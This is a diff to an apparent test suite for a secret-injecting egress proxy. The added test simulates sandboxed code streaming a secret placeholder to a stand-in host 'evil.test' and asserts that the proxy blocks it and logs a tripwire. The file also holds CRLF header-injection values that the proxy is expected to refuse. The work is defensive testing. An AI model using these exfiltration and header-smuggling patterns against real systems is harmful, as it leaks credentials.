@@ -5,6 +5,9 @@
  */
 import assert from 'node:assert/strict';
 import { after, before, describe, test } from 'node:test';
+import https from 'node:https';
+import type { AddressInfo } from 'node:net';
+import { ProxyAgent, request } from 'undici';
 import { auditRows, canary, egressOf, rawThroughTunnel, startFixture, viaProxy, type Fixture, type Sandbox } from './fixture.js';
 import type { EchoUpstream } from '../helpers/upstream.js';
 
@@ -169,6 +172,38 @@ describe('attacks: the real value never reaches the wrong place', () => {
     assert.ok(!up.requests.some((q) => q.url === '/smuggled'));
   });
 
+  test('a refused placeholder deep inside a streamed (chunked) body stops the upload before it is sent', async () => {
+    // A raw upstream that keeps every byte it gets, even of an aborted upload.
+    let received = '';
+    const sink = https.createServer(f.pki.server, (req, res) => {
+      req.on('data', (c: Buffer) => (received += c.toString('latin1')));
+      req.on('error', () => {});
+      req.on('end', () => res.end('ok'));
+    });
+    await new Promise<void>((r) => sink.listen(0, '127.0.0.1', r));
+    const port = (sink.address() as AddressInfo).port;
+    const v = canary();
+    await f.secret({ name: 'body-key', value: v, hosts: [`api.openai.com:${up.port}`], bodyPlaceholders: true });
+    const box = await f.sandbox({ secrets: { BODY_KEY: 'body-key' } });
+    const agent = new ProxyAgent({ uri: box.proxyUrl, requestTls: { ca: box.caPem } });
+    async function* body() {
+      yield Buffer.from(`{"padding":"${'x'.repeat(200_000)}`);
+      await new Promise((r) => setTimeout(r, 20));
+      yield Buffer.from(`","key":"${box.env.BODY_KEY}"}`);
+    }
+    const r = await request(`https://evil.test:${port}/upload`, { dispatcher: agent, method: 'POST', headers: { 'content-type': 'application/json' }, body: body() }).catch((e: Error) => e);
+    await agent.close();
+    sink.close();
+    if (!(r instanceof Error)) {
+      assert.equal(r.statusCode, 403);
+      assert.equal(JSON.parse(await r.body.text()).error.code, 'placeholder_blocked');
+    }
+    assert.ok(!received.includes('stn_ph_') && !received.includes(v), 'neither the placeholder nor the value left the proxy');
+    await f.flush();
+    const trip = (await auditRows(f, 'proxy.tripwire')).find((t) => t.details.binding === 'BODY_KEY');
+    assert.ok(trip, 'tripwire row for the body placeholder');
+  });
+
   test('values with CR, LF or NUL are refused when stored, so no header can be split', async () => {
     for (const value of ['abc\r\nX-Injected: 1', 'abc\ndef', 'abc\0def']) {
       const r = await f.server.api('POST', '/v1/secrets', { name: `crlf-${Math.random().toString(36).slice(2)}`, value, hosts: ['api.openai.com'] });
@@ -216,6 +251,8 @@ describe('attacks: the real value never reaches the wrong place', () => {
     await f.flush();
     const trips = await auditRows(f, 'proxy.tripwire');
     assert.ok(trips.length >= 10, `tripwire rows: ${trips.length}`);
+    assert.ok(trips.some((r) => r.details.check === 'misdirected_request' && r.details.binding === 'OPENAI_API_KEY'), 'a misdirected request with a placeholder is a tripwire');
+    assert.ok(trips.some((r) => r.details.check === 'destination_mismatch'), 'an SNI mismatch with a placeholder is a tripwire');
     const t = trips.find((r) => r.details.secret === 'openai' && /evil\.test/.test(r.details.destination));
     assert.ok(t, 'a row names the secret and the destination');
     assert.equal(t.outcome, 'denied');
